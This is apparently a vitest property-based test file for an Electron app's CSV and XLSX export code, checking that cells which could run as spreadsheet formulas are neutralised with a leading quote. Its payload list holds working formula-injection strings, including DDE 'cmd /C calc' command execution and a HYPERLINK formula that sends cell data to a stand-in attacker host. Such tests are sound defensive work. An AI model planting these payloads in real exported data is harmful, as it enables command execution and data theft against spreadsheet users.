// CSV/formula injection: any exported text cell a spreadsheet would evaluate (= + - @, tab, CR first) comes back from
// the file with a leading quote; real numbers stay numbers; the XLSX holds no formula cell at all.
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { toCsv } from '../../../electron/batch/export/export-csv';
import { exportTable } from '../../../electron/batch/export/export-table';
import { xlsxBytes } from '../../../electron/batch/export/export-xlsx';
import { guardFormula, looksLikeFormula } from '../../../electron/batch/export/formula-guard';
import { readCsv } from '../../../electron/batch/ingest/ingest-csv';
import { result, tempDir } from '../store/fixtures';

let tmp: ReturnType<typeof tempDir>;
beforeEach(() => {
  tmp = tempDir();
});
afterEach(() => tmp.cleanup());

const PAYLOADS = [
  '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

const hostile = fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\t=', ' =', '', '-1', '+1'), fc.string({ maxLength: 30 }));
const cell = fc
  .oneof(
    hostile.map(([a, b]) => a + b),
    fc.constantFrom(...PAYLOADS),
    fc.constantFrom('-5', '+3.25', '-0.5e3', '42', 'plain text'),
  )
  .filter((s) => !/^\s*nan\s*$/i.test(s));

const columns = ['id', 'activity_name', 'remark'];
const table = (rows: string[][]) =>
  exportTable(
    columns,
    rows.map((cells, i) => ({ cells, result: result(String(i + 1), i + 1, 'pass') })),
  );
const expected = (s: string) => (looksLikeFormula(s) ? `'${s}` : s);

describe('guardFormula', () => {
  it('defuses the known payloads and leaves real numbers and plain text alone', () => {
    for (const p of PAYLOADS) expect(guardFormula(p)).toBe(`'${p}`);
    for (const n of ['-5', '+3.25', '-0.5e3', '42', '.5', 'plain', '', ' =not first', "'already"]) expect(guardFormula(n)).toBe(n);
    expect(guardFormula('+91 98765 43210')).toBe("'+91 98765 43210"); // a phone number is text, not a number
  });
});

describe('exported files', () => {
  it('CSV: every hostile cell reads back quoted, every other cell unchanged (property)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 5 }), async (rows) => {
        const file = path.join(tmp.dir, 'out.csv');
        writeFileSync(file, toCsv(table(rows)));
        const back = await readCsv(file);
        expect(back.rows.map((r) => r.slice(0, 3))).toEqual(rows.map((r) => r.map(expected)));
        for (const r of back.rows) for (const c of r) if (looksLikeFormula(c)) throw new Error(`cell ${JSON.stringify(c)} could run as a formula`);
      }),
      { numRuns: 150 },
    );
  });

  it('XLSX: no cell is a formula, hostile text is quoted, scores are numbers (property, read back with exceljs)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 4 }), async (rows) => {
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load((await xlsxBytes(table(rows))) as unknown as ArrayBuffer);
        const ws = wb.worksheets[0]!;
        ws.eachRow((row, n) => {
          row.eachCell({ includeEmpty: false }, (c) => {
            expect(c.formula, `${c.address}`).toBeUndefined();
            expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
            if (typeof c.value === 'string') expect(looksLikeFormula(c.value), `${c.address}: ${JSON.stringify(c.value)}`).toBe(false);
          });
          if (n === 1) return;
          const input = rows[n - 2]!;
          // XML turns a bare CR into LF when the workbook is read; the quote in front is what matters here.
          expect([1, 2, 3].map((i) => ws.getRow(n).getCell(i).value ?? '')).toEqual(input.map((s) => expected(s).replace(/\r\n?/g, '\n')));
          expect(typeof ws.getRow(n).getCell(4).value).toBe('number');
        });
      }),
      { numRuns: 25 },
    );
  });
});
